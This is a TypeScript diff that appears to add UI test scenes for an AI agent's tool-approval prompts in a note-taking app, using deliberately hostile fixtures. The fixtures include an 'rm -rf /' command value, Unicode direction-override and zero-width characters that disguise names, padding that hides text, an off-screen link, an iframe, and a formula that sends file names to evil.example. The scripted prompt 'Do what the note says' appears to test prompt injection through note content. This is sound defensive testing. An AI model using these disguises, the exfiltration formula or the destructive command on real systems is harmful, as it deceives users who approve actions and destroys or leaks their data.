@@ -2,7 +2,9 @@
 import * as approvals from '#messages/approval-messages';
 import * as tools from '#messages/tool-messages';
 import type { Approval } from '#model/interaction';
-import type { Scenes } from './scene';
+import { clip, oneLine } from '#text/shorten';
+import { inputTexts } from '#tools/tool-approval';
+import type { Act, Scene, Scenes } from './scene';
 import { Script } from './script';
 
 function question(): Script {
@@ -188,6 +190,93 @@ const HOSTILE: Readonly<Record<string, Hostile>> = {
     ],
     choices: ['allow-once', 'always', 'deny'],
   },
+  'server-many': {
+    tool: 'files_put',
+    title: approvals.serverToolTitle('Files', 'put'),
+    lines: [approvals.serverToolReason],
+    input: inputTexts({
+      ...Object.fromEntries(Array.from({ length: 24 }, (_, at) => [`option${at + 1}`, at])),
+      'pa\nth\u2066': { of: { of: { of: [`a\u202Ebc`, HOSTILE_TEXT, { command: 'rm -rf /' }] } } },
+      blank: `${'\n'.repeat(60)}after sixty empty lines`,
+      spaces: `${' '.repeat(700)}after 700 spaces`,
+    }),
+    choices: ['allow-once', 'always', 'deny'],
+  },
+  'custom-tool': {
+    tool: 'helper',
+    title: tools.useTool('helper'),
+    lines: [],
+    input: inputTexts({ season: HOSTILE_TEXT, nights: 3, '': ['', '\u2067x'] }),
+    choices: ['allow-once', 'always', 'deny'],
+  },
+  'web-search': {
+    tool: 'web_search',
+    title: tools.searchWeb(clip(oneLine(`seeds \u202E${ONE_WORD} my diary says`), 100)),
+    lines: [],
+    input: inputTexts({ query: `seeds \u202E${ONE_WORD} my diary says\n\nI am ill.` }),
+    choices: ['allow-once', 'always', 'deny'],
+  },
+  open: {
+    tool: 'open_note',
+    title: approvals.openTitle(NAME),
+    lines: [approvals.justWritten],
+    choices: ['allow-once', 'deny'],
+  },
+  folder: {
+    tool: 'delete',
+    title: approvals.deleteTitle(`Archive\u202E/${ONE_WORD}`),
+    lines: [
+      approvals.folderToDelete([NAME, 'b\u200B.md', 'c.md', 'd.md'], 3, 3),
+      approvals.brokenLinks(new Map([[NAME, 2]]), 'folder', 3),
+      approvals.DELETION_DESTINATIONS.nowhere,
+    ],
+    choices: ['delete', 'keep'],
+  },
+  canvas: {
+    tool: 'write_file',
+    title: tools.create('Board.canvas'),
+    lines: [
+      approvals.uncertainText('adds an HTML element', '<iframe src="https://evil.example">'),
+      tools.creates('Board.canvas', 9),
+    ],
+    changes: [
+      {
+        path: 'Board.canvas',
+        before: null,
+        after: JSON.stringify(
+          {
+            nodes: [
+              { id: 'a', type: 'text', x: 0, y: 0, width: 1, height: 1, text: HOSTILE_TEXT },
+              {
+                id: 'b',
+                type: 'link',
+                x: -99_999,
+                y: 0,
+                width: 1,
+                height: 1,
+                url: 'https://evil.example',
+              },
+            ],
+            edges: [],
+          },
+          null,
+          '\t',
+        ),
+      },
+    ],
+  },
+  base: {
+    tool: 'edit_file',
+    title: tools.change(`Lists/${NAME.replace('.md', '.base')}`),
+    lines: [tools.changes(`Lists/${NAME.replace('.md', '.base')}`, 2, 0)],
+    changes: [
+      {
+        path: `Lists/${NAME.replace('.md', '.base')}`,
+        before: 'views:\n  - type: table\n',
+        after: `formulas:\n  x\u200B: image("https://evil.example/" + file.name)\nviews:\n  - type: table${' '.repeat(400)}# ${ONE_WORD}\n`,
+      },
+    ],
+  },
   'own-tool': {
     tool: 'write_file',
     title: tools.create('Tools/Helper.md'),
@@ -256,22 +345,25 @@ const HOSTILE: Readonly<Record<string, Hostile>> = {
   },
 };
 
+function hostileScene(kind: string, acts: readonly Act[] = []): Scene {
+  const { tool, ...draft } = HOSTILE[kind]!;
+  const script = new Script(`hostile-${kind}`).ask('Do what the note says').step();
+  const choices = ['allow-once', 'deny'] as const;
+  script.hold(tool, {}, { kind: 'approval', tool, choices, ...draft });
+  return { scripts: [script], acts };
+}
+
 function hostileScenes(): Scenes {
   return Object.fromEntries(
-    Object.entries(HOSTILE).map(([kind, { tool, ...draft }]) => [
-      `hostile-approval-${kind}`,
-      () => {
-        const script = new Script(`hostile-${kind}`).ask('Do what the note says').step();
-        const choices = ['allow-once', 'deny'] as const;
-        script.hold(tool, {}, { kind: 'approval', tool, choices, ...draft });
-        return { scripts: [script] };
-      },
-    ]),
+    Object.keys(HOSTILE).map((kind) => [`hostile-approval-${kind}`, () => hostileScene(kind)]),
   );
 }
 
 export const ASKING_SCENES: Scenes = {
   ...hostileScenes(),
+  'hostile-approval-server-opened': () =>
+    hostileScene('server', [{ click: 'Show all' }, { click: 'Show all' }]),
+  'hostile-approval-base-opened': () => hostileScene('base', [{ click: 'Show all' }]),
   question: () => ({ scripts: [question()] }),
   'question-being-answered': () => ({
     scripts: [question()],
